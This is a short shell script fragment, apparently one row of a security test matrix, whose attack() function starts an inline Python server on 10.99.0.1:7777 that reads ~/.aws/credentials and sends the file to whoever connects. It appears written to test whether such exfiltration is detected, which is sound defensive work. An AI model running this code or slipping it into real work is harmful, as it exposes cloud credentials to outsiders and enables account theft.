# SPDX-License-Identifier: Apache-2.0
TITLE="the secret is served: an outsider connects and pulls it"
ROW="N23"
DEST="$SINK4:*"
attack() {
	timeout 5 python3 - <<-'END'
	import os, socket
	s = socket.create_server(('10.99.0.1', 7777))
	data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
	for _ in range(2):
	    c, _ = s.accept()
	    c.sendall(data)
	    c.close()
	END
}
